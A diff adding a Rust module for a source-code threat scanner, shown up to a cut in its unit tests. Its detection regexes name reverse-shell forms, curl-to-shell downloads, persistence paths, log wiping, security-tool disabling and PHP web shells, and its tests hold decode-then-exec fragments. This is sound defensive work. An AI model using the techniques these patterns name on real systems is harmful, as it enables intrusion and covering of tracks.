@@ -1,0 +1,947 @@
+//! Per-file detection: capabilities, sensitive paths, endpoints and threat indicators of one
+//! source file, from its [`Facts`]. Correlation across them happens in `correlate.rs`.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+use super::facts::{Facts, LineIndex};
+use super::lexicon::{
+    self, classify, endpoint_kind, import_capability, secret_of, Capability, EndpointKind, Secret,
+    Sink,
+};
+use crate::analyze::source::{Lang, SourceFile};
+
+/// Where something was seen.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Hit {
+    /// 1-based line.
+    pub line: u32,
+    /// Short excerpt (attacker text; escaped when reported).
+    pub evidence: String,
+}
+
+/// A threat indicator.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub(crate) enum Indicator {
+    ReverseShell,
+    DownloadExec,
+    Persistence,
+    AntiAnalysis,
+    Obfuscated,
+    EncodedPayload,
+    DecodeExec,
+    Bcc,
+    Cc,
+    HighEntropy,
+    EnvHarvest,
+    ForkBomb,
+    Tamper,
+    WebShell,
+}
+
+/// A tool argument reaching a dangerous call.
+#[derive(Debug, Clone)]
+pub(crate) struct Flow {
+    /// The parameter.
+    pub param: String,
+    /// Shell/process (`true`) or dynamic code (`false`).
+    pub shell: bool,
+    /// Where.
+    pub hit: Hit,
+}
+
+/// What a tool handler does.
+#[derive(Debug, Clone)]
+pub(crate) struct Handler {
+    /// First and last line.
+    pub lines: (u32, u32),
+    /// Capabilities its body uses.
+    pub effects: BTreeSet<Capability>,
+}
+
+/// Everything found in one file.
+#[derive(Debug, Clone)]
+pub(crate) struct FileReport {
+    pub path: String,
+    pub caps: BTreeMap<Capability, Hit>,
+    pub secrets: Vec<(Secret, Hit)>,
+    pub endpoints: Vec<(Option<EndpointKind>, String, Hit)>,
+    pub indicators: Vec<(Indicator, Hit)>,
+    pub flows: Vec<Flow>,
+    pub handlers: Vec<Handler>,
+}
+
+impl FileReport {
+    pub(crate) fn has(&self, cap: Capability) -> bool {
+        self.caps.contains_key(&cap)
+    }
+
+    pub(crate) fn indicator(&self, i: Indicator) -> Option<&Hit> {
+        self.indicators
+            .iter()
+            .find(|(k, _)| *k == i)
+            .map(|(_, h)| h)
+    }
+}
+
+fn excerpt_line(text: &str, offset: usize) -> String {
+    let start = text[..offset.min(text.len())]
+        .rfind('\n')
+        .map_or(0, |i| i + 1);
+    let end = text[offset.min(text.len())..]
+        .find('\n')
+        .map_or(text.len(), |i| offset + i);
+    let line = text.get(start..end).unwrap_or("").trim();
+    line.chars().take(160).collect()
+}
+
+fn short(s: &str) -> String {
+    s.chars().take(160).collect()
+}
+
+/// Scans one source file.
+pub(crate) fn scan(file: &SourceFile) -> FileReport {
+    let facts = if file.lang == Lang::Shell {
+        Facts::lexical(Lang::Shell, &file.text)
+    } else {
+        Facts::of(file)
+    };
+    let mut r = FileReport {
+        path: file.path.clone(),
+        caps: BTreeMap::new(),
+        secrets: Vec::new(),
+        endpoints: Vec::new(),
+        indicators: Vec::new(),
+        flows: Vec::new(),
+        handlers: Vec::new(),
+    };
+    let lines = LineIndex::new(&facts.code);
+    calls(file.lang, &facts, &mut r);
+    literals(&facts, &mut r);
+    code_patterns(file.lang, &facts, &lines, &mut r);
+    if file.lang == Lang::Shell {
+        shell_tokens(&facts, &lines, &mut r);
+    }
+    taint(file.lang, &facts, &mut r);
+    r.indicators.sort_by_key(|(i, h)| (*i, h.line));
+    r.indicators.dedup_by_key(|(i, _)| *i);
+    r
+}
+
+fn calls(lang: Lang, facts: &Facts, r: &mut FileReport) {
+    for module in &facts.imports {
+        if let Some(cap) = import_capability(module) {
+            r.caps.entry(cap).or_insert_with(|| Hit {
+                line: 1,
+                evidence: format!("imports `{}`", short(module)),
+            });
+        }
+    }
+    let sinks: Vec<Option<Sink>> = facts
+        .calls
+        .iter()
+        .map(|c| classify(lang, c, facts))
+        .collect();
+    let mut decoders: Vec<(usize, usize)> = Vec::new();
+    for (call, sink) in facts.calls.iter().zip(&sinks) {
+        let Some(sink) = sink else { continue };
+        if sink.decoder {
+            decoders.push(call.range);
+            if !sink.shell {
+                continue;
+            }
+        }
+        let hit = Hit {
+            line: call.line,
+            evidence: short(&excerpt_line(&facts.code, call.range.0)),
+        };
+        r.caps.entry(sink.cap).or_insert(hit);
+    }
+    // Names bound to decoded data.
+    let mut decoded: BTreeSet<&str> = BTreeSet::new();
+    for a in &facts.assigns {
+        if decoders
+            .iter()
+            .any(|d| a.value.0 <= d.0 && d.1 <= a.value.1)
+        {
+            decoded.extend(a.names.iter().map(String::as_str));
+        }
+    }
+    for (call, sink) in facts.calls.iter().zip(&sinks) {
+        let Some(sink) = sink else { continue };
+        let executes =
+            sink.shell && matches!(sink.cap, Capability::DynamicCode | Capability::Process);
+        if !executes {
+            continue;
+        }
+        let nested = decoders
+            .iter()
+            .any(|d| call.args.0 <= d.0 && d.1 <= call.args.1 && *d != call.range);
+        let args = facts.slice(call.args);
+        let via_name = decoded.iter().any(|n| contains_word(args, n));
+        if nested || via_name || (sink.decoder && sink.shell) {
+            r.indicators.push((
+                Indicator::DecodeExec,
+                Hit {
+                    line: call.line,
+                    evidence: short(&excerpt_line(&facts.code, call.range.0)),
+                },
+            ));
+        }
+    }
+}
+
+pub(crate) static DOWNLOAD_EXEC: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(concat!(
+        r"(?i)\b(?:curl|wget)\b[^|;\n]{0,300}\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b",
+        r"|\b(?:curl|wget)\b[^\n]{0,300}(?:&&|;)\s*(?:chmod\s+(?:\+x|[0-7]{3,4})|(?:ba)?sh\s|\./)",
+        r"|\b(?:iwr|invoke-webrequest|downloadstring|net\.webclient)\b[^\n]{0,300}\b(?:iex|invoke-expression)\b",
+        r"|\bpowershell(?:\.exe)?\b[^\n]{0,60}\s-e(?:nc|ncodedcommand)?\s+[a-z0-9+/=]{20,}",
+        r"|\bpython[23]?\s+-c\s+[^\n]{0,200}\burl(?:lib|open)[^\n]{0,200}\bexec\b",
+    ))
+    .expect("valid regex")
+});
+
+static REVERSE_SHELL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(concat!(
+        r"/dev/(?:tcp|udp)/[\w.\-{}$]+/\w+",
+        r"|\b(?:nc|ncat|netcat)\b[^\n|;]{0,80}\s-[a-z]*e\s+\S*(?:sh|cmd(?:\.exe)?)\b",
+        r"|\b(?:ba)?sh\s+-i\s*[<>]&?",
+        r"|\bsocat\b[^\n]{0,80}\bexec:",
+        r"|\bmkfifo\b[^\n]{0,120}\b(?:nc|ncat)\b",
+        r"|System\.Net\.Sockets\.TCPClient",
+    ))
+    .expect("valid regex")
+});
+
+static PERSISTENCE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)\bcrontab\b|/etc/cron|/var/spool/cron|\.bashrc\b|\.bash_profile\b|\.zshrc\b|\.zprofile\b|(?:^|[/~])\.profile$|authorized_keys|LaunchAgents|LaunchDaemons|/etc/systemd/system|\.config/systemd/user|\.config/autostart|CurrentVersion\\+Run|/etc/rc\.local|/etc/init\.d/|/etc/ld\.so\.preload|\bschtasks\b")
+        .expect("valid regex")
+});
+
+fn literals(facts: &Facts, r: &mut FileReport) {
+    let network = r.has(Capability::Network);
+    let mut seen_endpoints = BTreeSet::new();
+    for lit in &facts.lits {
+        let text = lit.text.as_str();
+        if text.len() < 3 {
+            continue;
+        }
+        let hit = || Hit {
+            line: lit.line,
+            evidence: short(text),
+        };
+        // Paths, not prose: an error message that mentions a path is not a read.
+        let path_like = text.split_whitespace().count() <= 4 && !text.contains(": ");
+        if let Some(secret) = secret_of(text).filter(|_| path_like) {
+            if !protective(&facts.code, lit.start) {
+                r.secrets.push((secret, hit()));
+            }
+        }
+        for c in lexicon::URL.captures_iter(text) {
+            let url = c.get(0).map_or("", |m| m.as_str());
+            let host = c.get(1).map(|m| m.as_str());
+            let kind = endpoint_kind(url, host).filter(|_| !protective(&facts.code, lit.start));
+            if seen_endpoints.insert(url.to_string()) && seen_endpoints.len() <= 200 {
+                r.endpoints.push((kind, short(url), hit()));
+            }
+        }
+        if let Some(c) = lexicon::BARE_IP.captures(text) {
+            if let Ok(ip) = c[1].parse::<std::net::Ipv4Addr>() {
+                if lexicon::public(ip) && network && !looks_like_version(text) {
+                    r.endpoints
+                        .push((Some(EndpointKind::RawIp), short(text), hit()));
+                }
+            }
+        }
+        if !lexicon::URL.is_match(text) {
+            if let Some(kind) =
+                endpoint_kind(text, None).filter(|_| !protective(&facts.code, lit.start))
+            {
+                r.endpoints.push((Some(kind), short(text), hit()));
+            }
+        }
+        if DOWNLOAD_EXEC.is_match(text) && !prose(text) {
+            r.indicators.push((Indicator::DownloadExec, hit()));
+        }
+        if REVERSE_SHELL.is_match(text) {
+            r.indicators.push((Indicator::ReverseShell, hit()));
+        }
+        if text.contains(":(){ :|:& };:") || text.contains(":(){:|:&};:") {
+            r.indicators.push((Indicator::ForkBomb, hit()));
+        }
+        if TAMPER.is_match(text) {
+            r.indicators.push((Indicator::Tamper, hit()));
+        }
+        if WEBSHELL.is_match(text) {
+            r.indicators.push((Indicator::WebShell, hit()));
+        }
+        if PERSISTENCE.is_match(text) && text.len() < 400 && !prose(text) {
+            r.indicators.push((Indicator::Persistence, hit()));
+        }
+        if let Some(kind) = encoded(text) {
+            let fed = fed_to_decoder(facts, lit.start);
+            if fed {
+                r.indicators.push((
+                    Indicator::EncodedPayload,
+                    Hit {
+                        line: lit.line,
+                        evidence: format!("{kind} literal of {} characters", text.len()),
+                    },
+                ));
+            } else if text.len() >= 200 && entropy(text) > 5.2 && !facts.lexical {
+                r.indicators.push((
+                    Indicator::HighEntropy,
+                    Hit {
+                        line: lit.line,
+                        evidence: format!("{kind} literal of {} characters", text.len()),
+                    },
+                ));
+            }
+        } else if text.matches("\\x").count() >= 40 {
+            r.indicators.push((
+                Indicator::Obfuscated,
+                Hit {
+                    line: lit.line,
+                    evidence: format!("string of {} `\\x` escapes", text.matches("\\x").count()),
+                },
+            ));
+        }
+    }
+}
+
+/// Documentation and messages rather than a command or a path: several sentences or lines.
+fn prose(text: &str) -> bool {
+    text.len() > 500 || text.matches(". ").count() >= 2 || text.matches('\n').count() >= 4
+}
+
+/// Whether a secret path is named to keep it safe: in a deny list, an exclusion, a check that
+/// refuses access (the 300 bytes of code before it say so).
+fn protective(code: &str, offset: usize) -> bool {
+    static WORDS: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?i)deny|denied|block|forbid|exclude|ignore|protect|restrict|blacklist|disallow|refuse|reject|unsafe|dangerous|redact|ssrf|private_?(?:ip|host|net|range)")
+            .expect("valid regex")
+    });
+    let mut start = offset.saturating_sub(300);
+    while !code.is_char_boundary(start) {
+        start += 1;
+    }
+    code.get(start..offset).is_some_and(|w| WORDS.is_match(w))
+}
+
+fn looks_like_version(text: &str) -> bool {
+    text.split('.').all(|p| p.len() <= 2)
+        && text.starts_with(['0', '1', '2'])
+        && text
+            .split('.')
+            .filter_map(|p| p.parse::<u32>().ok())
+            .all(|n| n < 30)
+}
+
+/// `base64` or `hex` when a literal looks like a long encoded blob.
+fn encoded(text: &str) -> Option<&'static str> {
+    if text.len() < 120 {
+        return None;
+    }
+    let compact: String = text
+        .chars()
+        .filter(|c| !c.is_whitespace() && *c != '\\')
+        .collect();
+    let compact = compact.replace("\\n", "");
+    if compact.len() >= 120 && compact.bytes().all(|b| b.is_ascii_hexdigit()) {
+        return Some("hex");
+    }
+    let body = compact.trim_end_matches('=');
+    let b64 = body
+        .bytes()
+        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_'));
+    let mixed = body.bytes().any(|b| b.is_ascii_digit())
+        && body.bytes().any(|b| b.is_ascii_uppercase())
+        && body.bytes().any(|b| b.is_ascii_lowercase());
+    (b64 && mixed && body.len() >= 120).then_some("base64")
+}
+
+/// Whether the literal at `offset` is decoded: inside a decoder call, or bound to a name that a
+/// decoder call receives.
+fn fed_to_decoder(facts: &Facts, offset: usize) -> bool {
+    let decoders: Vec<_> = facts
+        .calls
+        .iter()
+        .filter(|c| {
+            let m = c.method();
+            m.contains("decode")
+                || m.contains("Decode")
+                || matches!(m, "atob" | "fromhex" | "unhexlify" | "decompress" | "loads")
+                || (c.canon == "Buffer.from")
+                || m.starts_with("inflate")
+                || m.starts_with("gunzip")
+        })
+        .collect();
+    if decoders
+        .iter()
+        .any(|c| c.args.0 <= offset && offset < c.args.1)
+    {
+        return true;
+    }
+    let names: Vec<&str> = facts
+        .assigns
+        .iter()
+        .filter(|a| a.value.0 <= offset && offset < a.value.1)
+        .flat_map(|a| a.names.iter().map(String::as_str))
+        .collect();
+    decoders.iter().any(|c| {
+        let args = facts.slice(c.args);
+        names.iter().any(|n| contains_word(args, n))
+    })
+}
+
+/// Shannon entropy in bits per character.
+pub(crate) fn entropy(text: &str) -> f64 {
+    let mut counts = [0usize; 256];
+    for b in text.bytes() {
+        counts[usize::from(b)] += 1;
+    }
+    #[allow(clippy::cast_precision_loss)]
+    let n = text.len() as f64;
+    counts
+        .iter()
+        .filter(|c| **c > 0)
+        .map(|c| {
+            #[allow(clippy::cast_precision_loss)]
+            let p = *c as f64 / n;
+            -p * p.log2()
+        })
+        .sum()
+}
+
+static ENV_HARVEST_JS: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"JSON\.stringify\(\s*process\.env\s*[,)]|\b(?:body|data|json|payload)\s*:\s*(?:JSON\.stringify\()?process\.env\s*[,}]|\.(?:send|write|post)\(\s*(?:JSON\.stringify\()?process\.env\s*[,)]")
+        .expect("valid regex")
+});
+static ENV_HARVEST_PY: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"json\.dumps\(\s*(?:dict\()?\s*os\.environ\b|\bstr\(\s*os\.environ\s*\)|\b(?:json|data|params|body|payload)\s*=\s*(?:dict\()?\s*os\.environ\b|for\s+\w+\s*,\s*\w+\s+in\s+os\.environ\.items\(\)\s*\}|\{\s*\*\*\s*os\.environ\s*\}\s*\)|['\x22]\w*env\w*['\x22]\s*:\s*(?:dict\()?\s*os\.environ\b")
+        .expect("valid regex")
+});
+static ENV_HARVEST_OTHER: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"json\.Marshal\(\s*os\.Environ\(\)|env::vars\(\)[^;]{0,80}(?:to_string|json|format)",
+    )
+    .expect("valid regex")
+});
+static ENV_READ: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"process\.env\b|os\.environ\b|os\.getenv\b|os\.Getenv\b|env::var")
+        .expect("valid regex")
+});
+static BCC: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)(?:["']?\b(bcc|cc)["']?\s*[:=]\s*\[?\s*|\[\s*["'](bcc|cc)["']\s*\]\s*=\s*|\(\s*["'](bcc|cc)["']\s*,\s*)f?["'`]([^"'`\s]*@[^"'`\s]+\.[a-z]{2,})["'`]"#)
+        .expect("valid regex")
+});
+static BCC_NAME: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)(?:["']?\b(bcc|cc)["']?\s*[:=]\s*\[?\s*|\[\s*["'](bcc|cc)["']\s*\]\s*=\s*|\(\s*["'](bcc|cc)["']\s*,\s*)((?:[A-Za-z_$][\w$]*\.)*([A-Za-z_$][\w$]*))\s*[,)}\]\n]"#)
+        .expect("valid regex")
+});
+static TAMPER: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)\bsetenforce\s+0\b|\bufw\s+disable\b|\biptables\s+-F\b|\bsystemctl\s+(?:stop|disable|mask)\s+(?:firewalld|apparmor|auditd|ufw|falcon-sensor|osqueryd|clamav\S*)|\bauditctl\s+-e\s*0|Set-MpPreference\s+-Disable|\bhistory\s+-c\b|unset\s+HISTFILE|HISTFILE=/dev/null|rm\s+-r?f\s+/var/log|>\s*/var/log/|\bwevtutil\s+cl\b|\bcsrutil\s+disable|spctl\s+--master-disable")
+        .expect("valid regex")
+});
+static WEBSHELL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?is)<\?php.{0,400}\b(?:system|eval|exec|shell_exec|passthru|assert|popen)\s*\(.{0,200}\$_(?:GET|POST|REQUEST|COOKIE)|<\?php.{0,400}\$_(?:GET|POST|REQUEST|COOKIE).{0,400}\b(?:system|eval|exec|shell_exec|passthru|assert|popen)\s*\(")
+        .expect("valid regex")
+});
+static ANTI_ANALYSIS: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"sys\.gettrace\(\)|TracerPid|IsDebuggerPresent|PTRACE_TRACEME|/sys/class/dmi/id/|CheckRemoteDebuggerPresent|\bsetInterval\([^)]{0,40}debugger")
+        .expect("valid regex")
+});
+static OBFUSCATED: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\beval\(function\(p,a,c,k,e,[dr]\)|\bexec\(\s*''\.join\(\s*(?:chr|map\(chr)|\bexec\(\s*bytes\(|getattr\(\s*__builtins__\s*,|__import__\(\s*['\x22]builtins['\x22]\s*\)\s*,\s*['\x22](?:exec|eval)|\[\s*['\x22]constructor['\x22]\s*\]\s*\(\s*['\x22]return")
+        .expect("valid regex")
+});
+static HEX_IDENT: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"\b_0x[0-9a-f]{4,6}\b").expect("valid regex"));
+
+fn code_patterns(lang: Lang, facts: &Facts, lines: &LineIndex, r: &mut FileReport) {
+    let code = facts.code.as_str();
+    let hit_at = |offset: usize| Hit {
+        line: lines.line(offset),
+        evidence: short(&excerpt_line(code, offset)),
+    };
+    let harvest = match lang {
+        Lang::JavaScript | Lang::TypeScript | Lang::Tsx => ENV_HARVEST_JS.find(code),
+        Lang::Python => ENV_HARVEST_PY.find(code),
+        _ => ENV_HARVEST_OTHER.find(code),
+    };
+    if let Some(m) = harvest {
+        r.indicators
+            .push((Indicator::EnvHarvest, hit_at(m.start())));
+    }
+    if let Some(m) = ENV_READ.find(code) {
+        r.caps
+            .entry(Capability::Environment)
+            .or_insert_with(|| hit_at(m.start()));
+    }
+    for c in BCC.captures_iter(code).take(4) {
+        let which = c
+            .get(1)
+            .or_else(|| c.get(2))
+            .or_else(|| c.get(3))
+            .map_or("", |m| m.as_str());
+        let kind = if which.eq_ignore_ascii_case("bcc") {
+            Indicator::Bcc
+        } else {
+            Indicator::Cc
+        };
+        r.indicators
+            .push((kind, hit_at(c.get(0).map_or(0, |m| m.start()))));
+    }
+    for c in BCC_NAME.captures_iter(code).take(4) {
+        let name = c.get(5).map_or("", |m| m.as_str());
+        if name.len() < 2 {
+            continue;
+        }
+        let assigned = Regex::new(&format!(
+            r#"\b{}\s*[:=]\s*f?["'`][^"'`\s]*@[^"'`\s]+\.[a-zA-Z]{{2,}}["'`]"#,
+            regex::escape(name)
+        ));
+        if assigned.is_ok_and(|re| re.is_match(code)) {
+            let which = c
+                .get(1)
+                .or_else(|| c.get(2))
+                .or_else(|| c.get(3))
+                .map_or("", |m| m.as_str());
+            let kind = if which.eq_ignore_ascii_case("bcc") {
+                Indicator::Bcc
+            } else {
+                Indicator::Cc
+            };
+            r.indicators
+                .push((kind, hit_at(c.get(0).map_or(0, |m| m.start()))));
+        }
+    }
+    if let Some(m) = ANTI_ANALYSIS.find(code) {
+        r.indicators
+            .push((Indicator::AntiAnalysis, hit_at(m.start())));
+    }
+    if let Some(m) = OBFUSCATED.find(code) {
+        r.indicators
+            .push((Indicator::Obfuscated, hit_at(m.start())));
+    }
+    let mut hex = HEX_IDENT.find_iter(code);
+    if let Some(first) = hex.next() {
+        let count = 1 + hex.take(200).count();
+        if count >= 20 {
+            r.indicators.push((
+                Indicator::Obfuscated,
+                Hit {
+                    line: lines.line(first.start()),
+                    evidence: format!("{count}+ obfuscator-style `_0x…` identifiers"),
+                },
+            ));
+        }
+    }
+    // Python and JavaScript reverse shells built from a socket and a shell.
+    let sockets = code.contains("socket.socket")
+        || code.contains("net.Socket")
+        || code.contains("net.connect")
+        || code.contains("createConnection");
+    let shell_lit = facts.lits.iter().any(|l| {
+        matches!(
+            l.text.as_str(),
+            "/bin/sh" | "/bin/bash" | "sh" | "bash" | "cmd.exe" | "powershell" | "-i"
+        )
+    });
+    let dup = code.contains("dup2(") && code.contains("fileno()");
+    let piped = code.contains(".stdout.pipe(")
+        || code.contains(".pipe(sh.stdin")
+        || code.contains(".pipe(shell.stdin");
+    if sockets && shell_lit && (dup || piped || code.contains("pty.spawn")) {
+        let at = code
+            .find("dup2(")
+            .or_else(|| code.find(".pipe("))
+            .or_else(|| code.find("pty.spawn"))
+            .unwrap_or(0);
+        r.indicators.push((Indicator::ReverseShell, hit_at(at)));
+    }
+    if code.contains("os.fork()") && code.contains("while True") {
+        if let Some(at) = code.find("os.fork()") {
+            r.indicators.push((Indicator::ForkBomb, hit_at(at)));
+        }
+    }
+}
+
+fn shell_tokens(facts: &Facts, lines: &LineIndex, r: &mut FileReport) {
+    let code = facts.code.as_str();
+    for (line_no, line) in code.lines().enumerate() {
+        let line = line.trim();
+        if line.starts_with('#') {
+            continue;
+        }
+        let hit = || Hit {
+            line: u32::try_from(line_no + 1).unwrap_or(u32::MAX),
+            evidence: short(line),
+        };
+        let words: Vec<&str> = line
+            .split(|c: char| c.is_whitespace() || "|;&()`$".contains(c))
+            .collect();
+        if words
+            .iter()
+            .any(|w| matches!(*w, "curl" | "wget" | "nc" | "ncat" | "ssh" | "scp"))
+        {
+            r.caps.entry(Capability::Network).or_insert_with(hit);
+        }
+        if words.iter().any(|w| matches!(*w, "eval" | "source" | ".")) {
+            r.caps.entry(Capability::DynamicCode).or_insert_with(hit);
+        }
+        if words.iter().any(|w| matches!(*w, "rm" | "shred")) {
+            r.caps.entry(Capability::FileDelete).or_insert_with(hit);
+        }
+        if DOWNLOAD_EXEC.is_match(line) {
+            r.indicators.push((Indicator::DownloadExec, hit()));
+        }
+        if REVERSE_SHELL.is_match(line) {
+            r.indicators.push((Indicator::ReverseShell, hit()));
+        }
+        if line.contains(":(){") {
+            r.indicators.push((Indicator::ForkBomb, hit()));
+        }
+        if line.contains("base64")
+            && (line.contains("-d") || line.contains("--decode"))
+            && line.contains('|')
+            && (line.contains("sh") || line.contains("eval"))
+        {
+            r.indicators.push((Indicator::DecodeExec, hit()));
+        }
+    }
+    r.caps.entry(Capability::Process).or_insert(Hit {
+        line: 1,
+        evidence: "shell script".into(),
+    });
+    let _ = lines;
+}
+
+/// Whether `word` occurs in `hay` as a whole identifier.
+pub(crate) fn contains_word(hay: &str, word: &str) -> bool {
+    if word.is_empty() {
+        return false;
+    }
+    let is_ident = |c: char| c.is_alphanumeric() || c == '_' || c == '$';
+    let mut from = 0;
+    while let Some(i) = hay[from..].find(word) {
+        let start = from + i;
+        let end = start + word.len();
+        let before = hay[..start].chars().next_back();
+        let after = hay[end..].chars().next();
+        if !before.is_some_and(is_ident) && !after.is_some_and(is_ident) {
+            return true;
+        }
+        from = end;
+    }
+    false
+}
+
+/// Splits an argument list's text at top-level commas.
+fn split_args(args: &str) -> Vec<&str> {
+    let inner = args
+        .strip_prefix('(')
+        .and_then(|a| a.strip_suffix(')'))
+        .unwrap_or(args);
+    let mut out = Vec::new();
+    let (mut depth, mut start) = (0i32, 0usize);
+    let mut quote: Option<char> = None;
+    for (i, c) in inner.char_indices() {
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some(_), _) => {}
+            (None, '"' | '\'' | '`') => quote = Some(c),
+            (None, '(' | '[' | '{') => depth += 1,
+            (None, ')' | ']' | '}') => depth -= 1,
+            (None, ',') if depth == 0 => {
+                out.push(inner[start..i].trim());
+                start = i + 1;
+            }
+            _ => {}
+        }
+    }
+    if !inner[start..].trim().is_empty() {
+        out.push(inner[start..].trim());
+    }
+    out
+}
+
+/// What a function does with its parameters: indices of parameters that reach a shell
+/// (`true`) or an evaluator (`false`), directly or through functions of the same file.
+type Summary = BTreeSet<(usize, bool)>;
+
+/// Parameters of `func` (by index) that reach dangerous calls, given the other summaries.
+/// With `report`, also returns each reaching call (param name, shell, call index, via).
+fn reach(
+    lang: Lang,
+    facts: &Facts,
+    func: &super::facts::Func,
+    summaries: &BTreeMap<String, Summary>,
+) -> Vec<(usize, bool, usize, Option<String>)> {
+    let (hs, he) = func.range;
+    let inside = |range: (usize, usize)| hs <= range.0 && range.1 <= he;
+    // Tainted name → the parameter index it came from.
+    let mut tainted: BTreeMap<String, usize> = func
+        .params
+        .iter()
+        .enumerate()
+        .filter(|(_, p)| p.len() > 1 && !matches!(p.as_str(), "_" | "extra" | "signal"))
+        .map(|(i, p)| (p.clone(), i))
+        .collect();
+    if tainted.is_empty() {
+        return Vec::new();
+    }
+    // Calls and assignments are in source order: only the function's own slice is visited.
+    let assigns = {
+        let from = facts.assigns.partition_point(|a| a.value.0 < hs);
+        let to = facts.assigns.partition_point(|a| a.value.0 < he);
+        &facts.assigns[from..to.max(from)]
+    };
+    let call_from = facts.calls.partition_point(|c| c.range.0 < hs);
+    let call_to = facts
+        .calls
+        .partition_point(|c| c.range.0 < he)
+        .max(call_from);
+    for _ in 0..3 {
+        let before = tainted.len();
+        for a in assigns.iter().filter(|a| inside(a.value)) {
+            let value = facts.slice(a.value);
+            let source = tainted
+                .iter()
+                .find(|(t, _)| contains_word(value, t))
+                .map(|(_, p)| *p);
+            if let Some(source) = source {
+                for name in &a.names {
+                    tainted.entry(name.clone()).or_insert(source);
+                }
+            }
+        }
+        if tainted.len() == before {
+            break;
+        }
+    }
+    let mut out = Vec::new();
+    for (k, call) in facts
+        .calls
+        .iter()
+        .enumerate()
+        .take(call_to)
+        .skip(call_from)
+        .filter(|(_, c)| inside(c.range))
+    {
+        let args = facts.slice(call.args);
+        if let Some(sink) = classify(lang, call, facts) {
+            let dangerous =
+                sink.shell && matches!(sink.cap, Capability::Process | Capability::DynamicCode);
+            if dangerous {
+                if let Some((_, p)) = tainted.iter().find(|(t, _)| contains_word(args, t)) {
+                    out.push((*p, sink.cap == Capability::Process, k, None));
+                }
+            }
+            continue;
+        }
+        let Some(summary) = summaries.get(call.method()) else {
+            continue;
+        };
+        let parts = split_args(args);
+        for (j, shell) in summary {
+            // Keyword arguments are matched by name, the rest by position.
+            let callee_param = facts
+                .funcs
+                .iter()
+                .find(|f| f.name == call.method())
+                .and_then(|f| f.params.get(*j));
+            // (Only reached for callees with a summary, which are few.)
+            let arg = callee_param
+                .and_then(|name| {
+                    parts.iter().find(|p| {
+                        p.split_once('=')
+                            .is_some_and(|(k, _)| k.trim() == name.as_str())
+                    })
+                })
+                .or_else(|| parts.get(*j).filter(|p| !p.contains('=')));
+            if let Some(arg) = arg {
+                if let Some((_, p)) = tainted.iter().find(|(t, _)| contains_word(arg, t)) {
+                    out.push((*p, *shell, k, Some(call.method().to_string())));
+                }
+            }
+        }
+    }
+    out
+}
+
+/// Tool arguments that reach a shell or an evaluator: names propagate through assignments
+/// inside a function, and through calls to functions of the same file.
+fn taint(lang: Lang, facts: &Facts, r: &mut FileReport) {
+    if !facts.funcs.iter().any(|f| f.handler) {
+        return;
+    }
+    let lines = LineIndex::new(&facts.code);
+    let mut summaries: BTreeMap<String, Summary> = BTreeMap::new();
+    for _ in 0..3 {
+        let mut changed = false;
+        for func in facts.funcs.iter().filter(|f| !f.name.is_empty()) {
+            let found: Summary = reach(lang, facts, func, &summaries)
+                .into_iter()
+                .map(|(p, shell, _, _)| (p, shell))
+                .collect();
+            if found.is_empty() {
+                continue;
+            }
+            let entry = summaries.entry(func.name.clone()).or_default();
+            let before = entry.len();
+            entry.extend(found);
+            changed |= entry.len() != before;
+        }
+        if !changed {
+            break;
+        }
+    }
+    for handler in facts.funcs.iter().filter(|f| f.handler) {
+        let (hs, he) = handler.range;
+        for (p, shell, k, via) in reach(lang, facts, handler, &summaries) {
+            let call = &facts.calls[k];
+            let mut evidence = short(&excerpt_line(&facts.code, call.range.0));
+            if let Some(via) = via {
+                evidence = format!("via `{}`: {evidence}", short(&via));
+            }
+            r.flows.push(Flow {
+                param: handler.params.get(p).cloned().unwrap_or_default(),
+                shell,
+                hit: Hit {
+                    line: call.line,
+                    evidence,
+                },
+            });
+        }
+        let mut effects = BTreeSet::new();
+        for call in facts
+            .calls
+            .iter()
+            .filter(|c| hs <= c.range.0 && c.range.1 <= he)
+        {
+            if let Some(sink) = classify(lang, call, facts) {
+                if !sink.decoder || sink.shell {
+                    effects.insert(sink.cap);
+                }
+            }
+        }
+        r.handlers.push(Handler {
+            lines: (handler.line, lines.line(he)),
+            effects,
+        });
+    }
+    r.flows
+        .sort_by(|a, b| (a.hit.line, &a.param).cmp(&(b.hit.line, &b.param)));
+    r.flows
+        .dedup_by(|a, b| a.hit.line == b.hit.line && a.param == b.param);
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn scan_text(lang: Lang, text: &str) -> FileReport {
+        scan(&SourceFile::new("x", lang, text))
+    }
+
+    #[test]
+    fn decode_then_exec_is_seen_nested_and_through_a_name() {
+        let r = scan_text(
+            Lang::Python,
+            "import base64\nexec(base64.b64decode(PAYLOAD))\n",
+        );
+        assert!(r.indicator(Indicator::DecodeExec).is_some(), "{r:?}");
+        let r = scan_text(
+            Lang::JavaScript,
+            "const code = Buffer.from(blob, 'base64').toString();\neval(code);\n",
+        );
+        assert!(r.indicator(Indicator::DecodeExec).is_some(), "{r:?}");
+        let r = scan_text(Lang::JavaScript, "const s = atob(x); console.log(s);\n");
+        assert!(r.indicator(Indicator::DecodeExec).is_none());
+    }
+
+    #[test]
+    fn tool_argument_to_shell_flows() {
+        let r = scan_text(
+            Lang::Python,
